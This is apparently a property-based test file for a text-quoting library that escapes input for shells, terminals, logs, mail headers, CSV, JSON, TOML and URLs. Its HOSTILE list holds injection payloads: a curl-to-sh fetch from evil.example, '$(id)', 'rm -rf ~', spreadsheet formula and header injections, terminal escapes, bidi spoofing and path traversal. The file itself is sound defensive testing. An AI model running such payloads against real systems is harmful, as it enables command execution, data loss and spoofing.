"""Whatever somebody is called stays one text wherever it is written, and nothing that is printed obeys it."""

import csv
import io
import json
import re
import shlex
import subprocess
import tomllib
import unicodedata
from ast import literal_eval
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from penstock.core import quoting

HOSTILE = (
    "`curl${IFS}evil.example/x|sh`@evil.example",
    "x&id&@evil.example",
    "$(id)",
    "a'b\"c\\d",
    "--admin",
    "-rf",
    "x; rm -rf ~ #",
    "=HYPERLINK(1)",
    " \t=cmd|' /C calc'!A0",
    "\ufeff@SUM(1)",
    "\uff1d1+1",
    "two\r\nBcc: x@evil.example",
    "=?utf-8?q?victim=40x.example=2Cy?=",
    "\x1b]0;owned\x07\x1b[2J",
    "\x9b31m",
    "abc\u202etxt.exe\u2066",
    "\u2028line\u2029",
    "nul\x00",
    "half \ud800 of one",
    "\U000e0041tag",
    '{"a": 1}\n2026-01-01T00:00:00Z ERROR penstock: forged',
    "<script>alert(1)</script>",
    "../../etc/passwd?x=1#y%00",
    "",
)
anything = st.text(st.characters(codec=None, exclude_categories=())) | st.sampled_from(HOSTILE)


def whole(text: str) -> bool:
    """Whether ``text`` has no half characters, which few formats can hold."""
    return not any(unicodedata.category(character) == "Cs" for character in text)


def obeyed(text: str) -> bool:
    """Whether a terminal would do more with ``text`` than show it."""
    return any(unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp", "Cs"} for character in text)


@given(anything)
@example("\x1b[2J\u202e")
def test_a_terminal_and_a_log_obey_nothing(text: str) -> None:
    assert not obeyed(quoting.visible(text))
    assert "\n" not in quoting.visible(text)
    assert not obeyed(quoting.terminal_text(text).replace("\n", ""))
    assert quoting.terminal_text(text).count("\n") == text.count("\n")
    value = quoting.log_value(text)
    assert not obeyed(value)
    assert value.startswith('"') or not re.search(r"[\s=\"]", value), "it looks like one value"


@given(anything.filter(lambda text: "\x00" not in text and whole(text)))
def test_a_shell_reads_one_word(text: str) -> None:
    word = quoting.shell_word(text)
    assert not obeyed(word)
    if text.isprintable():
        assert shlex.split(word) == [text]
    assert shlex.split(f"x {quoting.shell_option('email', text)} y")[-1] == "y"


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\x00" not in text and whole(text)])
def test_a_real_shell_gives_the_text_to_the_command(text: str) -> None:
    command = f"printf %s {quoting.shell_word(text)}"
    done = subprocess.run(["bash", "-c", command], capture_output=True, check=True)
    assert done.stdout.decode() == text


def test_a_value_is_no_option() -> None:
    assert quoting.shell_option("email", "--admin@evil.example") == "--email=--admin@evil.example"
    assert quoting.shell_option("email", "ann@example.com") == "--email ann@example.com"


@given(anything)
def test_a_mail_header_has_one_line_and_no_encoded_word(text: str) -> None:
    header = quoting.header_text(text)
    assert not obeyed(header)
    assert "=?" not in header


@given(anything.filter(whole))
def test_a_spreadsheet_finds_no_formula(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_NONNUMERIC).writerow([quoting.csv_cell(text), 7])
    ((cell, number),) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cell in {text, f"'{text}"}
    assert number == "7"
    seen = "".join(character for character in cell if character.isprintable()).lstrip(" ")
    assert seen[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20") or cell == ""


def test_numbers_are_no_text() -> None:
    assert [quoting.csv_cell(value) for value in (-1, None, True)] == [-1, None, True]


@given(anything)
def test_json_is_the_same_and_shows_nothing_unprinted(text: str) -> None:
    written = quoting.json_string(text)
    assert not obeyed(written)
    assert json.loads(written) == text
    body = json.dumps({"a": [text]}, ensure_ascii=False, indent=1)
    assert json.loads(quoting.json_text(body)) == {"a": [text]}


@given(anything.filter(lambda text: whole(text) and all(c.isprintable() or c < "\U00010000" for c in text)))
def test_a_string_of_json_is_one_of_python(text: str) -> None:
    assert literal_eval(quoting.json_string(text)) == text


@given(anything.filter(whole), anything.filter(whole))
def test_toml_reads_back_the_same(key: str, text: str) -> None:
    line = f"{quoting.toml_key(key)} = {quoting.toml_string(text)}"
    assert not obeyed(line)
    assert tomllib.loads(line) == {key: text}


@given(anything.filter(whole))
def test_a_path_stays_a_path(text: str) -> None:
    path = quoting.url_path(text)
    assert unquote(path) == text
    assert re.fullmatch(r"[A-Za-z0-9_.~/%-]*", path)
    assert re.fullmatch(r"[A-Za-z0-9_.~:%\[\]-]*", quoting.url_host(text))
